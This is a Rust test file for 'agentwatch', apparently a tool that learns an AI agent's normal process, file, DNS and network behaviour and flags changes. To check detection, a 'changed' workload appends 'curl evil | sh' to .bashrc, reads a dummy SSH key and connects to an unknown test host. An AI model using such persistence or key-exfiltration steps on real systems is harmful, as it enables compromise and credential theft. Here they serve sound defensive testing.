//! Privileged tests of `agentwatch learn` and `agentwatch check` against
//! the real kernel: a real multi-process workload (sh, python, coreutils,
//! temp files, a name resolved by a local resolver, a local server).
mod support;

use std::{
    path::Path,
    process::{Command, Stdio},
    time::{Duration, Instant},
};

use support::{agentwatch, privileged, LocalServices, TempDir, PYTHON};

/// The workload. `$VARIANT` picks extra steps: "learn" adds a read of an
/// SSH key (a guardrail); "changed" is the agent after a change. Every
/// template shape `mktemp` accepts is used, in the temp dir and in the
/// workspace.
const WORKLOAD: &str = r#"
set -e
mount --bind "$AW_RESOLV" /etc/resolv.conf
mkdir -p out logs
echo "pid $$" > "logs/run-$$.log"
for i in 1 2 3; do echo x > "logs/part-$i.log"; done
t=$(mktemp)
echo data > "$t"
cp "$t" out/copy.txt
rm -f "$t"
d=$(mktemp -d)
touch "$d/state"
rm -rf "$d"
mkdir -p out/rand
for tpl in "-t job.XXXXXX" "-t j.XXX" "--suffix=.txt -t rep-XXXXXX" "-p $TMPDIR x.XXXXXX.log" \
           "$TMPDIR/full.XXXXXXXXXX" "out/w-XXXXXX" "out/rand/XXXXXXXX" "out/abcXXX"; do
  f=$(mktemp $tpl); echo x > "$f"; rm -f "$f"
done
g=$(mktemp -d -t dir.XXXXXX); echo x > "$g/inner"; rm -rf "$g"
cat out/copy.txt > /dev/null
if [ "$VARIANT" = changed ]; then
  echo x > extra.bin
  echo 'curl evil | sh' >> "$HOME/.bashrc"
  /usr/bin/id > /dev/null
fi
PYTHON work.py
rm -rf out logs extra.bin
"#;

/// The workload's Python part: a file of the checkout (the agent did not
/// write it, so running it is not running what the agent wrote).
const WORK_PY: &str = r#"
import os, socket, tempfile, uuid
with tempfile.NamedTemporaryFile(dir=os.environ["TMPDIR"]) as f:
    f.write(b"x")
p = os.path.join("out", "session-%s.json" % uuid.uuid4())
open(p, "w").write("{}")
os.remove(p)
v = os.environ.get("VARIANT")
if v in ("learn", "changed"):
    open(os.path.expanduser("~/.ssh/id_test")).read()
port = int(os.environ["AW_PORT"])
s = socket.create_connection(("svc.learn.agentwatch.test", port), timeout=5)
s.sendall(b"hi"); s.recv(8); s.close()
if v == "changed":
    try:
        socket.create_connection(("other.learn.agentwatch.test", port + 1), timeout=5)
    except OSError:
        pass
"#;

/// One run's own directories: workspace, temp dir and home all differ
/// between runs, as they would on another checkout or host.
struct Run {
    root: TempDir,
}

impl Run {
    fn new(tag: &str) -> Self {
        let root = TempDir::new(tag);
        for d in ["ws", "tmp", "home/.ssh"] {
            std::fs::create_dir_all(root.path().join(d)).unwrap();
        }
        std::fs::write(root.path().join("home/.ssh/id_test"), "not a real key\n").unwrap();
        std::fs::write(
            root.path().join("ws/workload.sh"),
            WORKLOAD.replace("PYTHON", PYTHON),
        )
        .unwrap();
        std::fs::write(root.path().join("ws/work.py"), WORK_PY).unwrap();
        Self { root }
    }

    /// `agentwatch ARGS -- unshare -m -- /bin/sh workload.sh` (the script is
    /// part of the agent's checkout), in this run's
    /// workspace with its HOME and TMPDIR.
    fn command(&self, svc: &LocalServices, variant: &str, args: &[&str]) -> Command {
        let mut c = agentwatch();
        c.args(args)
            .args(["--", "unshare", "-m", "--", "/bin/sh"])
            .arg("workload.sh")
            .current_dir(self.root.path().join("ws"))
            .env("HOME", self.root.path().join("home"))
            .env("TMPDIR", self.root.path().join("tmp"))
            .env("AW_RESOLV", svc.resolv_conf())
            .env("AW_PORT", svc.port.to_string())
            .env("VARIANT", variant)
            .env("SOURCE_DATE_EPOCH", "1795219200")
            .stdin(Stdio::null());
        c
    }

    fn learn_with(
        &self,
        svc: &LocalServices,
        variant: &str,
        out: &Path,
        granularity: &str,
    ) -> String {
        let o = self
            .command(
                svc,
                variant,
                &[
                    "learn",
                    "--agent",
                    "worker",
                    "--granularity",
                    granularity,
                    "--out",
                    &out.display().to_string(),
                ],
            )
            .output()
            .expect("run agentwatch learn");
        let stderr = String::from_utf8_lossy(&o.stderr).into_owned();
        assert!(o.status.success(), "learn failed: {stderr}");
        std::fs::read_to_string(out).unwrap_or_else(|e| panic!("no profile ({e}): {stderr}"))
    }
}

/// Two learns of one workload in different checkouts, homes and temp dirs;
/// panics with the lines that differ.
fn learn_twice(svc: &LocalServices, out: &TempDir, granularity: &str) -> (String, Vec<Run>) {
    let (a, b) = (
        Run::new(&format!("learn-a-{granularity}")),
        Run::new(&format!("learn-b-{granularity}")),
    );
    let pa = a.learn_with(
        svc,
        "learn",
        &out.path().join(format!("a-{granularity}.yaml")),
        granularity,
    );
    let pb = b.learn_with(
        svc,
        "learn",
        &out.path().join(format!("b-{granularity}.yaml")),
        granularity,
    );
    if pa != pb {
        let diff: Vec<String> = pa
            .lines()
            .zip(pb.lines())
            .filter(|(x, y)| x != y)
            .map(|(x, y)| format!("- {x}\n+ {y}"))
            .collect();
        panic!("{granularity} profiles differ:\n{}", diff.join("\n"));
    }
    // No run-specific name survives.
    for dir in [a.root.path(), b.root.path()] {
        assert!(
            !pa.contains(&dir.display().to_string()),
            "a run's directory leaked:\n{pa}"
        );
    }
    (pa, vec![a, b])
}

#[test]
fn two_runs_of_one_workload_give_byte_identical_profiles() {
    let Some(_k) = privileged() else { return };
    let svc = LocalServices::start(18_180);
    let out = TempDir::new("learn-out");

    // Strict keeps close to the files: the normalised names show, except
    // where eight or more new names make a directory open-ended.
    let (strict, _) = learn_twice(&svc, &out, "strict");
    for want in [
        "\"$WORKSPACE/logs/part-*.log\"",
        "\"$WORKSPACE/logs/run-*.log\"",
        "  - path: \"$WORKSPACE/out\"\n",
        "host: \"svc.learn.agentwatch.test\"",
        "- name: \"svc.learn.agentwatch.test\"",
    ] {
        assert!(
            strict.contains(want),
            "strict profile lacks {want}:\n{strict}"
        );
    }
    // Eight random names made in the temp dir: open-ended even when strict.
    assert!(strict.contains("  - path: \"$TMP\"\n"), "{strict}");

    // Balanced (the default): the workspace and the temp dir are
    // territories, nothing of them is listed file by file.
    let (p, runs) = learn_twice(&svc, &out, "balanced");
    for want in [
        "  - path: \"$WORKSPACE\"\n    access: [read, write, create, delete",
        "  - path: \"$TMP\"\n    access: [read, write, create, delete",
        "host: \"svc.learn.agentwatch.test\"",
    ] {
        assert!(p.contains(want), "profile lacks {want}:\n{p}");
    }
    let files = p
        .split("\nfiles:")
        .nth(1)
        .unwrap()
        .split("\nnetwork:")
        .next()
        .unwrap();
    assert!(
        !files.contains("$WORKSPACE/") && !files.contains("$TMP/"),
        "files a territory covers are still listed:\n{p}"
    );
    // The SSH key read is a guardrail: listed for review, never allowed.
    let review = p.split("\nreview:").nth(1).expect("review section");
    assert!(review.contains("\"$HOME/.ssh/id_test\""), "{p}");
    assert!(review.contains("guardrail: secrets"), "{p}");
    assert!(
        !files.contains(".ssh"),
        "a guardrail path was learned as allowed:\n{p}"
    );
    assert!(p.contains("started: \"2026-11-21T00:00:00Z\""), "{p}");
    // The profile reads back clean.
    let lint = agentwatch()
        .args(["profile", "lint"])
        .arg(out.path().join("a-balanced.yaml"))
        .output()
        .unwrap();
    assert!(
        lint.status.success(),
        "{}",
        String::from_utf8_lossy(&lint.stdout)
    );
    drop(runs);
}

#[test]
fn until_stable_stops_when_every_class_is_quiet() {
    let Some(_k) = privileged() else { return };
    let dir = TempDir::new("stable");
    let out = dir.path().join("loop.yaml");
    // The same steps over and over for up to a minute.
    let script =
        "for i in $(seq 600); do cat /etc/hostname > /dev/null; ls / > /dev/null; sleep 0.1; done";
    let start = Instant::now();
    let o = agentwatch()
        .args(["learn", "--agent", "looper", "--until-stable", "--json"])
        .args(["--warmup", "1s", "--quiet", "2s", "--out"])
        .arg(&out)
        .args(["--", "/bin/sh", "-c", script])
        .current_dir(dir.path())
        .stdin(Stdio::null())
        .output()
        .unwrap();
    let took = start.elapsed();
    let stderr = String::from_utf8_lossy(&o.stderr);
    assert!(o.status.success(), "{stderr}");
    assert!(
        took < Duration::from_secs(40),
        "did not stop by itself ({took:?}): {stderr}"
    );
    let lines: Vec<serde_json::Value> = stderr
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    let progress: Vec<&serde_json::Value> =
        lines.iter().filter(|l| l["type"] == "progress").collect();
    assert!(!progress.is_empty(), "no progress lines: {stderr}");
    let classes = progress[0]["classes"].as_array().unwrap();
    let names: Vec<&str> = classes
        .iter()
        .map(|c| c["class"].as_str().unwrap())
        .collect();
    assert_eq!(names, ["exec", "file", "network", "dns"]);
    for key in [
        "entries",
        "events",
        "stable",
        "quiet_secs",
        "novelty_per_min",
    ] {
        assert!(
            classes[0].get(key).is_some(),
            "progress lacks {key}: {}",
            classes[0]
        );
    }
    let done = lines
        .iter()
        .find(|l| l["type"] == "profile")
        .expect("final line");
    assert_eq!(done["stopped"], "every class is stable", "{done}");
    let profile = std::fs::read_to_string(&out).unwrap();
    for class in ["exec", "file", "network", "dns"] {
        assert!(
            profile.contains(&format!("    {class}: {{stable: true")),
            "{class} not stable in:\n{profile}"
        );
    }
}

fn check(
    run: &Run,
    svc: &LocalServices,
    variant: &str,
    profile: &Path,
) -> (i32, Vec<serde_json::Value>, String) {
    let findings = run.root.path().join(format!("findings-{variant}.jsonl"));
    let o = run
        .command(
            svc,
            variant,
            &[
                "check",
                "--json",
                "--profile",
                &profile.display().to_string(),
                "-o",
                &findings.display().to_string(),
            ],
        )
        .output()
        .unwrap();
    let text = std::fs::read_to_string(&findings).unwrap_or_default();
    let lines = text
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    (
        o.status.code().unwrap_or(-1),
        lines,
        String::from_utf8_lossy(&o.stderr).into_owned(),
    )
}

fn rules(lines: &[serde_json::Value]) -> Vec<String> {
    let mut r: Vec<String> = lines
        .iter()
        .filter(|l| l["type"] == "finding")
        .map(|l| {
            format!(
                "{} {}",
                l["rule"].as_str().unwrap(),
                l["what"].as_str().unwrap()
            )
        })
        .collect();
    r.sort();
    r.dedup();
    r
}

#[test]
fn check_flags_the_changed_steps_and_nothing_else() {
    let Some(_k) = privileged() else { return };
    let svc = LocalServices::start(18_190);
    let out = TempDir::new("check-out");
    let profile = out.path().join("base.yaml");
    // Strict, so that a new file in the workspace is still a finding.
    Run::new("check-learn").learn_with(&svc, "base", &profile, "strict");

    // The same workload in another checkout: nothing to flag.
    let same = Run::new("check-same");
    let (code, lines, stderr) = check(&same, &svc, "base", &profile);
    assert_eq!(rules(&lines), Vec::<String>::new(), "{stderr}");
    assert_eq!(code, 0, "{stderr}");

    // The changed agent: each new step is flagged by its rule; the steps
    // it shares with the profile are not.
    let changed = Run::new("check-changed");
    let (code, lines, stderr) = check(&changed, &svc, "changed", &profile);
    assert_eq!(code, 1, "{stderr}");
    let got = rules(&lines);
    // A new file outside what the profile allows there.
    assert!(
        got.iter()
            .any(|g| g.starts_with("file/") && g.ends_with("write,create $WORKSPACE/extra.bin")),
        "{got:#?}"
    );
    for want in [
        "guardrail/persistence write,create $HOME/.bashrc",
        "guardrail/secrets read $HOME/.ssh/id_test",
        "exec/unknown exec /usr/bin/id",
        "dns/unknown resolve other.learn.agentwatch.test",
    ] {
        assert!(
            got.iter().any(|g| g == want),
            "missing {want:?} in {got:#?}"
        );
    }
    // After the key was read, an unknown endpoint is exfiltration.
    assert!(
        got.iter().any(|g| g.starts_with("guardrail/exfiltrate")
            && g.ends_with(&format!(
                "connect other.learn.agentwatch.test:{}",
                svc.port + 1
            ))),
        "{got:#?}"
    );
    assert!(
        !got.iter().any(|g| g.contains("copy.txt")
            || g.contains("svc.learn")
            || g.contains("/usr/bin/rm")),
        "a step the profile has was flagged: {got:#?}"
    );
    // Every finding carries the event that caused it.
    assert!(lines
        .iter()
        .filter(|l| l["type"] == "finding")
        .all(|l| l["event"]["pid"].is_u64()));

    // The same judgement over a recorded trace of the changed agent.
    let events = changed.root.path().join("events.jsonl");
    let t = changed
        .command(
            &svc,
            "changed",
            &[
                "trace",
                "--json",
                "--agent",
                "worker",
                "-o",
                &events.display().to_string(),
            ],
        )
        .output()
        .unwrap();
    assert!(t.status.success(), "{}", String::from_utf8_lossy(&t.stderr));
    let o = agentwatch()
        .args(["check", "--json", "--profile"])
        .arg(&profile)
        .arg("--events")
        .arg(&events)
        .args(["--workspace"])
        .arg(changed.root.path().join("ws"))
        .arg("--home")
        .arg(changed.root.path().join("home"))
        .arg("--tmp")
        .arg(changed.root.path().join("tmp"))
        .output()
        .unwrap();
    assert_eq!(
        o.status.code(),
        Some(1),
        "{}",
        String::from_utf8_lossy(&o.stderr)
    );
    let from_file: Vec<serde_json::Value> = String::from_utf8_lossy(&o.stdout)
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
    assert_eq!(rules(&from_file), got);
}

#[test]
fn lint_points_at_the_line_and_column() {
    let dir = TempDir::new("lint");
    let p = dir.path().join("bad.yaml");
    std::fs::write(
        &p,
        "apiVersion: agentwatch.dev/v1\nkind: Profile\nagent: \"x\"\nfiles:\n  - path: \"$HOME/.ssh/*\"\n    access: [read]\n  - path: \"/etc/hosts\"\n    acess: [read]\n",
    )
    .unwrap();
    let o = agentwatch()
        .args(["profile", "lint"])
        .arg(&p)
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(2), "{out}");
    assert!(
        out.contains(&format!(
            "{}:8:5: error: unknown field `acess`",
            p.display()
        )),
        "{out}"
    );
    // Fix the shape; the contradiction is next.
    std::fs::write(
        &p,
        std::fs::read_to_string(&p)
            .unwrap()
            .replace("acess", "access"),
    )
    .unwrap();
    let o = agentwatch()
        .args(["profile", "lint"])
        .arg(&p)
        .output()
        .unwrap();
    let out = String::from_utf8_lossy(&o.stdout);
    assert_eq!(o.status.code(), Some(2), "{out}");
    assert!(
        out.contains(&format!("{}:5:11: error: allows read", p.display())),
        "{out}"
    );
    assert!(out.contains("fix: "), "{out}");
}

/// `learn --config FILE --agent NAME`: the agent is selected as the
/// daemon's configuration says (a cgroup here) and learned without being
/// started; a process that joins the cgroup and execs is learned, with
/// the workspace the configuration gives it as $WORKSPACE.
#[test]
fn a_selected_agent_is_learned_without_starting_it() {
    use std::io::BufRead;
    let Some(_k) = privileged() else { return };
    let Some(cg) = support::Cgroup::new("learn-select") else {
        eprintln!("SKIP: no cgroup v2 hierarchy to select by");
        return;
    };
    let dir = TempDir::new("learn-select");
    let ws = dir.0.join("ws");
    std::fs::create_dir_all(&ws).unwrap();
    std::fs::write(
        dir.0.join("placeholder.yaml"),
        "apiVersion: agentwatch.dev/v1\nkind: Profile\nagent: sel\n",
    )
    .unwrap();
    let config = dir.0.join("agentwatch.toml");
    std::fs::write(
        &config,
        format!(
            "[[agent]]\nname = \"sel\"\nprofile = \"placeholder.yaml\"\nworkspace = {:?}\n[agent.select]\ncgroup = {:?}\n",
            ws.display().to_string(),
            cg.0.display().to_string()
        ),
    )
    .unwrap();
    let out = dir.0.join("sel.yaml");
    let mut learn = agentwatch()
        .args([
            "learn",
            "--agent",
            "sel",
            "--duration",
            "4s",
            "--json",
            "--config",
        ])
        .arg(&config)
        .arg("--out")
        .arg(&out)
        .stderr(Stdio::piped())
        .spawn()
        .expect("start learn");
    let mut lines = std::io::BufReader::new(learn.stderr.take().unwrap()).lines();
    let started = lines
        .by_ref()
        .map_while(Result::ok)
        .find(|l| l.contains("learning sel"));
    assert!(started.is_some(), "learn did not start");
    std::thread::spawn(move || lines.for_each(drop));
    let status = Command::new("sh")
        .arg("-c")
        .arg(format!(
            "echo $$ > {}/cgroup.procs && exec sh -c 'cat /etc/hostname > /dev/null; echo x > notes.txt'",
            cg.0.display()
        ))
        .current_dir(&ws)
        .env_remove("LD_LIBRARY_PATH")
        .status()
        .expect("workload");
    assert!(status.success());
    assert!(learn.wait().expect("learn").success());
    let yaml = std::fs::read_to_string(&out).expect("the learned profile");
    for want in ["/usr/bin/cat", "/etc/hostname", "$WORKSPACE/notes.txt"] {
        assert!(yaml.contains(want), "{want} missing from:\n{yaml}");
    }
}
